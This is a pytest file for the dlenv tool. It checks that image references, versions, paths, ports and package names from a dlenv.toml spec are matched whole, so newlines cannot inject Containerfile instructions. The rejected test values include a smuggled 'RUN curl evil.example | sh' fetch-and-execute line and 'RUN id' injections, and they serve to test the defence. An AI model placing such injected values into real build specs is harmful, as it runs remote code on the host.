"""A dlenv.toml is untrusted input: every value that reaches a file or an argv is matched whole.

Each test here failed on the code before issue 11."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from dlenv.cli import run
from dlenv.engine.gpu import gpu_devices
from dlenv.errors import SpecError, UsageError
from dlenv.spec import Spec, apply_overrides, parse_spec
from dlenv.spec.model import is_image_reference
from tests.support.context import make_context
from tests.support.fakes import FakeRunner

DIGEST = "sha256:" + "0123456789abcdef" * 4


def problems(text: str) -> list[str]:
    with pytest.raises(SpecError) as caught:
        parse_spec(text, "dlenv.toml")
    return caught.value.problems


@pytest.mark.parametrize(
    "reference",
    [
        "ubuntu",
        "ubuntu:24.04",
        "nvcr.io/nvidia/cuda:12.8.1-cudnn-devel-ubuntu24.04",
        "localhost/dlenv-test/debian:bookworm",
        "localhost:5000/team/img",
        "registry.example.com:443/a__b/c-d.e:v1_2",
        "[::1]:5000/x:tag",
        f"debian@{DIGEST}",
        f"ghcr.io/org/img:1.0@{DIGEST}",
    ],
)
def test_valid_image_references_are_accepted(reference: str) -> None:
    assert parse_spec(f'[image]\nbase = "{reference}"\n', "f").image.base == reference


@pytest.mark.parametrize(
    "reference",
    [
        "ubuntu:24.04\nRUN curl evil.example | sh",  # the finding: a newline adds instructions
        "ubuntu:24.04\n",
        "ubuntu:24.04 AS x",
        "Ubuntu",  # path components are lower-case
        "a:b:c",
        "-a",
        "a/",
        "a:",
        "a:-tag",
        "debian@sha256:abc",
        f"debian@{DIGEST.upper()}",
        "debian@md5:" + "0" * 32,
        "a:" + "t" * 129,
        "a/" * 128 + "a",  # longer than NameTotalLengthMax
        "ubuntu:\uff12\uff14",  # fullwidth digits: Go's \w is ASCII
        "",
    ],
)
def test_invalid_image_references_are_refused(reference: str) -> None:
    assert not is_image_reference(reference)
    (message,) = problems(f"[image]\nbase = {json.dumps(reference)}\n")
    assert message.startswith("line 2: image.base: expected \"auto\" or an image reference")


def test_base_image_flag_is_validated_like_the_file(tmp_path: Path) -> None:
    with pytest.raises(SpecError) as caught:
        apply_overrides(Spec(), {"image.base": "ubuntu\nRUN id"})
    assert caught.value.problems[0].startswith("image.base: expected")
    ctx = make_context(tmp_path, FakeRunner())
    argv = ["render", "--base-image", "ubuntu:24.04\nRUN id", "--out", str(tmp_path / "out")]
    assert run(argv, ctx) == 2
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    ("table", "key", "value"),
    [
        ("", "name", "dlenv"),
        ("image", "user", "dev"),
        ("image", "timezone", "Etc/UTC"),
        ("image", "cuda", "12.8"),
        ("python", "version", "3.12"),
        ("python", "uv", "0.13.9"),
        ("torch", "version", "2.9"),
        ("run", "shm_size", "8g"),
        ("run", "bind", "127.0.0.1"),
    ],
)
def test_a_trailing_newline_never_passes(table: str, key: str, value: str) -> None:
    header = f"[{table}]\n" if table else ""
    assert parse_spec(f'{header}{key} = "{value}"\n', "f")  # the value itself is fine
    (message,) = problems(f'{header}{key} = "{value}\\n"\n')
    assert f"{table + '.' if table else ''}{key}:" in message


def test_a_trailing_newline_in_an_apt_package_never_passes() -> None:
    (message,) = problems('[image]\napt = ["git\\n"]\n')
    assert "image.apt:" in message


# Arabic-Indic and fullwidth digits are \d to Python's re.
@pytest.mark.parametrize("value", ["\u0661\u0662.\u0668", "3.\uff11\uff12"])
def test_versions_are_ascii_digits(value: str) -> None:
    assert problems(f'[python]\nversion = "{value}"\n')


def test_an_ipv6_scope_id_cannot_carry_a_newline() -> None:
    (message,) = problems('[run]\nbind = "fe80::1%\\nx"\n')
    assert message.startswith("line 2: run.bind: expected an IP address")


@pytest.mark.parametrize("device", ["0\n", "GPU-abc\n", "\u0661"])
def test_gpu_ids_are_matched_whole(device: str) -> None:
    with pytest.raises(UsageError):
        gpu_devices([device])


def test_ssh_and_jupyter_need_different_ports() -> None:
    (message,) = problems("[ssh]\nport = 8888\n")
    assert message == (
        "jupyter.port: 8888 is also ssh.port: SSH and Jupyter need two different host ports"
    )
    with pytest.raises(SpecError):
        apply_overrides(Spec(), {"ssh.port": 2200, "jupyter.port": 2200})


@pytest.mark.parametrize("key", ["ssh", "jupyter"])
def test_a_boolean_is_not_a_port(key: str) -> None:
    (message,) = problems(f"[{key}]\nport = true\n")
    assert message == f"line 2: {key}.port: expected a whole number, got true"


@pytest.mark.parametrize(
    ("value", "why"),
    [
        ("/data:/etc", "volume syntax"),
        ("/data,ro", "volume syntax"),
        ("/data\n", "control character"),
        ("~root/x", "only ~ and ~/"),
        ("", "empty"),
    ],
)
def test_workspace_paths_cannot_use_volume_syntax(value: str, why: str) -> None:
    (message,) = problems(f"[run]\nworkspace = {json.dumps(value)}\n")
    assert message.startswith("line 2: run.workspace:") and why in message


def test_an_empty_torch_layer_is_refused() -> None:
    # Found by the fuzz suite: `packages = []` rendered a RUN line with an empty last line.
    (message,) = problems("[torch]\npackages = []\n")
    assert message.startswith("line 2: torch.packages: expected at least one package")
    assert parse_spec("[torch]\nenabled = false\npackages = []\n", "f") is not None


@pytest.mark.parametrize("table", ["python", "torch"])
def test_a_requirement_cannot_end_the_run_line(table: str) -> None:
    # Found by the fuzz suite: packaging accepts "numpy\n", and the quoted newline split the
    # Containerfile's RUN instruction.
    key = "extra" if table == "python" else "packages"
    (message,) = problems(f'[{table}]\n{key} = ["numpy\\n"]\n')
    assert message.startswith(f"line 2: {table}.{key}: 'numpy\\n' holds a line break")
    assert "line break or another control character" in message
